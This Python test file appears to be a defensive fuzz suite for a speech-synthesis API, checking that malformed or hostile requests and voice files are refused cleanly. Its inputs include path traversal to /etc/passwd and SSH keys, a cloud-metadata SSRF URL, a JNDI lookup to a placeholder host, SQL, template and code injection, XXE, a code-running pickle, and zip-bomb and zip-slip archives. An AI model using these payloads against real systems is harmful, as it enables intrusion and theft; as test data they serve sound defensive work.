"""No request makes the API fail, reveal internals, or touch a file."""

from __future__ import annotations

import io
import json
import pickle
import zipfile
from pathlib import Path
from urllib.parse import quote

import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kokoro_studio.errors import StudioError
from kokoro_studio.voices import parse_formula, read_voice_file

pytestmark = pytest.mark.slow

PATHS = [
    "../../etc/passwd",
    "/etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2fetc%2fpasswd",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data",
    "voices/af_heart.safetensors",
    "CON",
    "af_heart\x00.pt",
    "~/.ssh/id_rsa",
]
FORMULAS = [
    *PATHS,
    "af_heart*1e400",
    "af_heart*-1e308 + af_bella*1e308",
    "af_heart*nan",
    "af_heart*inf",
    "+" * 4000,
    "(" * 2000,
    "af_heart" + " + af_heart" * 300,
    "af_heart -> " * 300 + "af_bella",
    "timbre(timbre(timbre(af_heart)))",
    "__import__('os').system('touch owned')",
    "${jndi:ldap://evil}",
    "{{7*7}}",
    "af_heart; DROP TABLE voices",
    "af_heart' OR '1'='1",
]
TEXTS = [
    "\x00" * 50,
    "\ud800",
    "‮" * 100,
    "a" * 5000,
    "9" * 5000,
    "1e308 " * 50,
    "[" * 3000,
    "[a](/" * 1000,
    "((((" * 1000,
    "👩‍👩‍👧‍👦" * 500,
    "\u0301" * 3000,
    "<script>alert(1)</script>",
    "{{constructor}} ${7*7} #{7*7}",
    "[pause:99999999999999999999s]",
    "[rate:" + "9" * 300 + "]",
    "\n" * 5000 + "a",
]
SSML = [
    "<speak>" + "<p>" * 5000 + "</p>" * 5000 + "</speak>",
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>',
    '<!DOCTYPE f [<!ENTITY x SYSTEM "file:///etc/passwd">]><speak>&x;</speak>',
    "<speak><break time='99999999999h'/></speak>",
    "<speak " + "a='1' " * 5000 + "/>",
    "<speak>\x00</speak>",
]
NUMBERS = ["1e999", "-1", "NaN", "Infinity", "9" * 400, "1" + "0" * 4400, "[]", "{}", '"x"', "null"]


def check(reply) -> None:
    """A plain answer, or a refusal in one sentence without a word about our inside."""
    assert reply.status_code < 500, reply.text
    if reply.status_code >= 400:
        error = reply.json()["error"]
        assert error["message"] and error["type"]
        for secret in ("Traceback", 'File "', ".py", "root:", "site-packages"):
            assert secret not in reply.text


def raw(api, path: str, body: str):
    content = body.encode("utf-8", "surrogatepass")
    return api.post(path, content=content, headers={"content-type": "application/json"})


@pytest.fixture(scope="module", autouse=True)
def nothing_is_written(data_folder, tmp_path_factory):
    """No file appears beside the project's, nor in the place it is run from."""
    root = Path(__file__).resolve().parents[2]

    def files() -> set[Path]:
        return {p for p in root.iterdir()} | {p for p in (root / "voices").iterdir()}

    before = files()
    yield
    assert files() == before


@pytest.mark.parametrize("formula", FORMULAS, ids=lambda f: f[:24])
def test_formulas(api, formula):
    check(api.post("/v1/audio/voices/combine", json=formula))
    check(api.post("/v1/audio/voices/combine", json=[formula, formula]))
    wanted = {"input": "Hi.", "voice": formula, "voice_aliases": {"x": formula}}
    check(api.post("/v1/audio/speech", json=wanted))


@pytest.mark.parametrize("path", PATHS)
def test_names_of_files_are_only_names(api, path):
    for route in ("/v1/download/", "/v1/models/", "/v1/static/"):
        reply = api.get(route + quote(path, safe="/%.:"))
        assert reply.status_code in (400, 404, 405), reply.text
        assert "root:" not in reply.text


@pytest.mark.parametrize("text", TEXTS, ids=range(len(TEXTS)))
def test_texts(api, text):
    body = json.dumps(text)
    check(raw(api, "/dev/phonemize", f'{{"text": {body}}}'))
    check(raw(api, "/v1/audio/speech", f'{{"input": {json.dumps(text[:30])}, "speed": 4}}'))
    phonemes = json.dumps(text[:30])
    check(raw(api, "/dev/generate_from_phonemes", f'{{"phonemes": {phonemes}, "speed": 4}}'))


@pytest.mark.parametrize("source", SSML, ids=range(len(SSML)))
def test_ssml(api, source):
    reply = api.post("/v1/audio/speech", json={"input": source, "ssml": True})
    assert reply.status_code == 400
    check(reply)


@pytest.mark.parametrize("number", NUMBERS, ids=lambda n: n[:12])
@pytest.mark.parametrize(
    "field", ["speed", "seed", "volume_multiplier", "stream", "input", "voice"]
)
def test_numbers_and_types(api, field, number):
    fields = {"input": '"Hi."', field: number}
    check(
        raw(
            api, "/v1/audio/speech", "{" + ", ".join(f'"{k}": {v}' for k, v in fields.items()) + "}"
        )
    )


@pytest.mark.parametrize("body", ["", "[" * 100_000, "null", "[]", '"a"', "\xff", '{"a":' * 20_000])
def test_bodies(api, body):
    for path in ("/v1/audio/speech", "/dev/dialogue", "/v1/audio/voices/combine"):
        check(raw(api, path, body))


class Harm:
    def __reduce__(self):
        return (Path.touch, (Path("owned"),))


def archive(name: str, data: bytes, times: int = 1) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as file:
        for n in range(times):
            file.writestr(f"{n}{name}" if times > 1 else name, data)
    return buffer.getvalue()


def numpy_header(description: str) -> bytes:
    return b"\x93NUMPY\x01\x00v\x00" + description.encode().ljust(118)


FILES = {
    "pickle.pt": pickle.dumps(Harm()),
    "archive.pt": archive("a/data.pkl", pickle.dumps(Harm())),
    "bomb.npz": archive("a.npy", b"\0" * 200_000_000),
    "climb.npz": archive("../../../owned.npy", b"\x93NUMPY"),
    "many.npz": archive(".npy", b"", 20_000),
    "objects.npy": numpy_header("{'descr': '|O', 'fortran_order': False, 'shape': (1,)}"),
    "huge.npy": numpy_header(
        "{'descr': '<f4', 'fortran_order': False, 'shape': (9999999999, 256)}"
    ),
    "huge.safetensors": (2**62).to_bytes(8, "little") + b"{}",
    "short.bin": b"\0" * 100,
    "nan.bin": np.full((510, 256), np.nan, "<f4").tobytes(),
    "empty.pt": b"",
}


@pytest.mark.parametrize("name", FILES)
def test_voice_files_are_never_run_nor_unpacked_without_bound(name, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / name).write_bytes(FILES[name])
    with pytest.raises(StudioError) as refused:
        read_voice_file(tmp_path / name)
    assert str(refused.value).endswith(".")
    assert [path.name for path in tmp_path.rglob("*")] == [name]


@settings(max_examples=300)
@given(st.text(max_size=80) | st.text("afbm_heartl*+-0.9e()@,:> ", max_size=80))
def test_any_formula_is_read_or_refused_with_a_sentence(formula):
    try:
        blend = parse_formula(formula)
    except StudioError as error:
        assert str(error)
    else:
        assert parse_formula(str(blend)) == blend


@settings(max_examples=100, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    st.recursive(
        st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
        lambda inner: (
            st.lists(inner, max_size=3)
            | st.dictionaries(
                st.sampled_from(
                    ["input", "voice", "id", "speed", "turns", "text", "ssml", "phonemes"]
                ),
                inner,
                max_size=4,
            )
        ),
        max_leaves=8,
    )
)
def test_any_json(api, value):
    body = json.dumps(value)
    for path in ("/v1/audio/speech", "/dev/dialogue", "/dev/phonemize", "/v1/audio/voices/combine"):
        check(raw(api, path, body))
